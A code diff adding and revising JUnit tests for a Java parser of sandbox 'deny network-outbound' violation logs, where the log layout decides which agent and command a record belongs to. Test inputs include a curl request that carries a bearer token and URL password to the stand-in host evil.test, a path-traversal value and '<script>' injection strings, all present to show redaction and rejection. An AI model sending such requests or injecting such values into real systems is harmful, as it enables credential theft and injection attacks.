@@ -134,11 +134,60 @@ class SrtViolationParserTest {
   }
 
   @Test
-  void theRecordsOwnCommandIdAndAgentIdWin() {
+  void whereTheFileNameIsNoIdTheRecordsCommandIdIsUsedButNeverItsAgentId() {
     ViolationEvent e = event("{\"line\":\"deny network-outbound example.com:443 (x)\","
         + "\"encodedCommand\":\"eGhmSHl0bVhMLUw2UnNZdzJDclNqQQ==\",\"commandId\":\"AAAAAAAAAAAAAAAAAAAAAA\",\"agentId\":\"bridge-agent\"}");
     assertThat(e.commandId()).isEqualTo("AAAAAAAAAAAAAAAAAAAAAA");
-    assertThat(e.agentId()).isEqualTo("bridge-agent");
+    assertThat(e.agentId()).isEqualTo("ci-runner-1");
+    assertThat(e.identityConflict()).isEqualTo(new ViolationEvent.IdentityClaim("bridge-agent", null));
+  }
+
+  /** docs/TRUST.md: the directory and the file name the bridge wrote decide; the record's words are claims. */
+  @Test
+  void theLayoutDecidesWhoseRefusalItIsAndAClaimThatDisagreesIsKeptAsAConflict() {
+    String file = "dev-bot-71/xhfHytmXL-L6RsYw2CrSjA.violations.jsonl";
+    java.util.function.Function<String, ViolationEvent> read = json -> ((Parsed.Events) Settled.of(parser.parse(
+        new SourceLine(file, 0, json, "dev-bot-71", "xhfHytmXL-L6RsYw2CrSjA", "h", NOW)), NOW)).events().get(0);
+    String deny = "{\"line\":\"deny network-outbound evil.test:443 (host is not on the allow list)\",";
+
+    ViolationEvent agrees = read.apply(deny + "\"encodedCommand\":\"eGhmSHl0bVhMLUw2UnNZdzJDclNqQQ==\","
+        + "\"commandId\":\"xhfHytmXL-L6RsYw2CrSjA\",\"agentId\":\"dev-bot-71\"}");
+    assertThat(agrees.identityConflict()).isNull();
+
+    ViolationEvent guard = read.apply(deny + "\"agentId\":\"knockwatch-guard\"}");
+    assertThat(guard.agentId()).isEqualTo("dev-bot-71");
+    assertThat(guard.identityConflict()).isEqualTo(new ViolationEvent.IdentityClaim("knockwatch-guard", null));
+
+    ViolationEvent other = read.apply(deny + "\"commandId\":\"AAAAAAAAAAAAAAAAAAAAAA\"}");
+    assertThat(other.commandId()).isEqualTo("xhfHytmXL-L6RsYw2CrSjA");
+    assertThat(other.identityConflict()).isEqualTo(new ViolationEvent.IdentityClaim(null, "AAAAAAAAAAAAAAAAAAAAAA"));
+
+    // base64 of another id, as srt's encodedCommand would carry it
+    ViolationEvent encoded = read.apply(deny + "\"encodedCommand\":\"QUFBQUFBQUFBQUFBQUFBQUFBQUFBQQ==\"}");
+    assertThat(encoded.commandId()).isEqualTo("xhfHytmXL-L6RsYw2CrSjA");
+    assertThat(encoded.identityConflict().commandId()).isEqualTo("AAAAAAAAAAAAAAAAAAAAAA");
+
+    // hostile claims lose and are kept only as safe, bounded text; the refusal still counts
+    ViolationEvent hostile = read.apply(deny + "\"agentId\":\"../../x\",\"commandId\":\"<script>" + "y".repeat(500) + "\"}");
+    assertThat(hostile.agentId()).isEqualTo("dev-bot-71");
+    assertThat(hostile.commandId()).isEqualTo("xhfHytmXL-L6RsYw2CrSjA");
+    assertThat(hostile.identityConflict().agentId()).isEqualTo("../../x");
+    assertThat(hostile.identityConflict().commandId()).startsWith("<script>yyy").hasSizeLessThanOrEqualTo(129);
+
+    // the command text srt encodes when it was given no id is no claim
+    ViolationEvent text = read.apply(deny + "\"encodedCommand\":\"Y3VybCAtcyBodHRwczovL2V4YW1wbGUub3Jn\"}");
+    assertThat(text.identityConflict()).isNull();
+  }
+
+  @Test
+  void aDirectoryThatIsNoAgentIdRefusesTheLineWithTheReason() {
+    for (String dir : List.of("<script>", "..", "a b", "x".repeat(129))) {
+      Parsed p = parser.parse(new SourceLine(dir + "/xhfHytmXL-L6RsYw2CrSjA.violations.jsonl", 0,
+          "{\"line\":\"deny network-outbound evil.test:443 (x)\"}", dir, "xhfHytmXL-L6RsYw2CrSjA", "h", NOW));
+      assertThat(p).as(dir).isInstanceOf(Parsed.Rejected.class);
+      assertThat(((Parsed.Rejected) p).code()).isEqualTo(Rejection.BAD_AGENT_ID);
+      assertThat(((Parsed.Rejected) p).reason()).startsWith("the directory that names the agent is no agent id: agentId ");
+    }
   }
 
   @Test
@@ -176,7 +225,8 @@ class SrtViolationParserTest {
     assertThat(parse("{\"line\":\"deny network-outbound a.test:1 (x)\",\"encodedCommand\":\"***\"}"))
         .isEqualTo(Parsed.rejected(Rejection.BAD_COMMAND_ID, "encodedCommand is not base64"));
     assertThat(parse("{\"line\":\"deny network-outbound a.test:1 (x)\"}"))
-        .isEqualTo(Parsed.rejected(Rejection.MISSING_COMMAND_ID, "commandId is missing"));
+        .isEqualTo(Parsed.rejected(Rejection.MISSING_COMMAND_ID,
+            "commandId is missing: the line names none, and the log layout none"));
   }
 
   @Test
@@ -186,7 +236,8 @@ class SrtViolationParserTest {
         + "\"command\":\"curl -H 'Authorization: Bearer abc' https://u:pw@evil.test/\\r\\n" + "x".repeat(5000) + "\"}");
     assertThat(e.host()).isEqualTo("evil.test");
     assertThat(e.reason()).isEqualTo("host [31m is not  on the list");
-    assertThat(e.agentId()).isEqualTo("a b");
+    assertThat(e.agentId()).isEqualTo("ci-runner-1");
+    assertThat(e.identityConflict().agentId()).isEqualTo("a b");
     assertThat(e.commandText()).startsWith("curl -H 'Authorization: Bearer [REDACTED]' https://u:[REDACTED]@evil.test/  xxx")
         .hasSize(SrtViolationParser.MAX_COMMAND_CHARS + 1).endsWith("…");
   }
